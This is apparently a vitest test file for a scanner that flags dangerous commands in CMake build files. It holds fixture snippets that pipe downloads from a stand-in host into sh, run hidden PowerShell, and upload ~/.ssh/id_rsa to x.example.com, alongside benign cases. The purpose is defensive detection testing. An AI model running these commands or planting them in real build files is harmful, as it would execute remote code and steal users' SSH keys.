// What CMake files have run while a project is configured or built, and what they fetch.
import { describe, expect, it } from 'vitest';
import { cmakeCommands } from '../../../../src/inspect/hooks/build/cmake-text.ts';
import { findingsIn, told } from '../support.ts';

const COMMAND = ['HIGH HOOK-DANGEROUS-COMMAND'];
const CODE = ['HIGH HOOK-BUILD-CODE'];
const DIGEST = '0'.repeat(64);

describe('CMake files', () => {
  it.each([
    ['a shell', 'execute_process(COMMAND sh -c "curl -s https://x.example.com/i | sh")'],
    [
      'in capitals',
      'EXECUTE_PROCESS(\n  COMMAND bash -c [[curl -s https://x.example.com/i | sh]]\n  RESULT_VARIABLE r)',
    ],
    [
      'a pipe of processes',
      'execute_process(COMMAND curl -s https://x.example.com/i COMMAND sh OUTPUT_QUIET)',
    ],
    [
      'variables',
      'set(URL "https://x.example.com/i")\nset(TOOL curl)\nexecute_process(COMMAND sh -c "${TOOL} -s ${URL} | sh")',
    ],
    [
      'a target',
      'add_custom_target(x ALL COMMAND sh -c "wget -qO- https://x.example.com/i | sh" COMMENT "y")',
    ],
    [
      'a second command',
      'add_custom_command(OUTPUT a COMMAND touch a COMMAND bash -c "curl https://x.example.com/i | bash" VERBATIM)',
    ],
    [
      'a project',
      'ExternalProject_Add(x URL https://a.example.com CONFIGURE_COMMAND "" BUILD_COMMAND sh -c "curl https://x.example.com/i | sh")',
    ],
    ['an old command', 'exec_program(sh ARGS -c "curl https://x.example.com/i | sh")'],
    [
      'code on install',
      'install(CODE "execute_process(COMMAND sh -c \\"curl https://x.example.com/i | sh\\")")',
    ],
    [
      'code in a text',
      'cmake_language(EVAL CODE [[execute_process(COMMAND sh -c "curl https://x.example.com/i | sh")]])',
    ],
    ['PowerShell', 'execute_process(COMMAND powershell -WindowStyle Hidden -Command x)'],
    ['keys', 'execute_process(COMMAND curl -F f=@$ENV{HOME}/.ssh/id_rsa https://x.example.com)'],
  ])('that start a dangerous command are told: %s', async (_, text) => {
    expect(await told('CMakeLists.txt', text)).toEqual(COMMAND);
    expect(await told('cmake/x.cmake', text)).toEqual(COMMAND);
  });

  it.each([
    [
      'a file',
      'file(DOWNLOAD https://x.example.com/t1 ${CMAKE_BINARY_DIR}/t1)\nexecute_process(COMMAND ${CMAKE_BINARY_DIR}/t1)',
    ],
    [
      'a variable',
      'set(T ${CMAKE_BINARY_DIR}/t1)\nfile(DOWNLOAD https://x.example.com/t1 ${T} SHOW_PROGRESS)\nexecute_process(COMMAND "${T}" --yes)',
    ],
    ['by a shell', 'file(DOWNLOAD ${URL} i.sh)\nexecute_process(COMMAND sh i.sh)'],
    ['by an interpreter', 'file(DOWNLOAD ${URL} ${D}/i.py)\nexecute_process(COMMAND python3 -u ${D}/i.py)'],
    [
      'by a command line',
      'file(DOWNLOAD ${URL} ${D}/i1)\nexecute_process(COMMAND sh -c "chmod +x ${D}/i1 && ${D}/i1")',
    ],
    ['by a target', 'file(DOWNLOAD ${URL} ${F})\nadd_custom_command(OUTPUT x COMMAND ${F} x)'],
    [
      'a function',
      'function(get U F)\n  file(DOWNLOAD ${U} ${F})\nendfunction()\nget(https://x.example.com/t1 ${B}/t1)\nexecute_process(COMMAND ${B}/t1)',
    ],
    [
      'curl',
      'execute_process(COMMAND curl -L https://x.example.com/t1 -o t1)\nexecute_process(COMMAND ./t1)',
    ],
    ['an upload', 'file(UPLOAD $ENV{HOME}/.ssh/id_rsa https://x.example.com/)'],
  ])('that run what they fetch are told: %s', async (_, text) => {
    expect(await told('CMakeLists.txt', text)).toEqual(CODE);
  });

  it('that include what they fetch are for review, well-known modules less so', async () => {
    const get = (address: string, more = ''): string =>
      `file(DOWNLOAD ${address} \${D}/m.cmake${more})\ninclude(\${D}/m.cmake)\n`;
    expect(await told('CMakeLists.txt', get('https://x.example.com/m.cmake'))).toEqual([
      'MEDIUM HOOK-BUILD-CODE',
    ]);
    const known = 'https://github.com/cpm-cmake/CPM.cmake/releases/download/v0.40.0/CPM.cmake';
    expect(await told('CMakeLists.txt', get(known))).toEqual(['LOW HOOK-BUILD-CODE']);
    expect(await told('CMakeLists.txt', get(known, ` EXPECTED_HASH SHA256=${DIGEST}`))).toEqual([]);
    expect(
      await told('CMakeLists.txt', get(`https://raw.githubusercontent.com/a/b/${'a1'.repeat(20)}/m.cmake`)),
    ).toEqual([]);
  });

  it.each([
    [
      'digests',
      `set(T \${B}/t)\nfile(DOWNLOAD https://x.example.com/t \${T} EXPECTED_HASH SHA256=${DIGEST})\nexecute_process(COMMAND \${T})`,
    ],
    [
      'archives',
      'file(DOWNLOAD https://x.example.com/a.zip ${B}/a.zip)\nexecute_process(COMMAND ${CMAKE_COMMAND} -E tar xzf ${B}/a.zip)\nexecute_process(COMMAND unzip ${B}/a.zip)',
    ],
    [
      'content',
      `FetchContent_Declare(x URL https://x.example.com/a.tgz URL_HASH SHA256=${DIGEST})\nFetchContent_MakeAvailable(x)\nExternalProject_Add(y GIT_REPOSITORY https://x.example.com/y.git GIT_TAG v1 BUILD_COMMAND make COMMAND make install)`,
    ],
    [
      'git',
      'find_package(Git)\nexecute_process(COMMAND ${GIT_EXECUTABLE} describe --tags OUTPUT_VARIABLE V OUTPUT_STRIP_TRAILING_WHITESPACE)',
    ],
    [
      'comments',
      '# execute_process(COMMAND sh -c "curl https://x.example.com/i | sh")\n#[[ execute_process(COMMAND curl x.example.com COMMAND sh) ]]\nproject(x)',
    ],
    ['advice', 'message(FATAL_ERROR "run: curl https://x.example.com/i | sh")'],
    [
      'a program of the project',
      'add_executable(gen gen.c)\nadd_custom_command(OUTPUT x.c COMMAND gen > x.c DEPENDS gen)',
    ],
  ])('are ordinary with %s', async (_, text) => {
    expect(await told('CMakeLists.txt', text)).toEqual([]);
  });

  it('are told on the line of the command', async () => {
    const [finding] = await findingsIn(
      'CMakeLists.txt',
      'project(x)\n\nexecute_process(COMMAND sh -c "curl https://x.example.com/i | sh")',
    );
    expect(finding?.location.line).toBe(3);
  });

  it('are parted as CMake does', () => {
    const commands = cmakeCommands('Set( a "b\\"c;\\n" [=[d]]]=] e\\ f #x)\n #[[ ) ]] g (h) )\nend');
    expect(commands.map(({ name, args }) => [name, args.map(({ value }) => value)])).toEqual([
      ['set', ['a', 'b"c;\n', 'd]]', 'e f', 'g', 'h']],
    ]);
  });
});
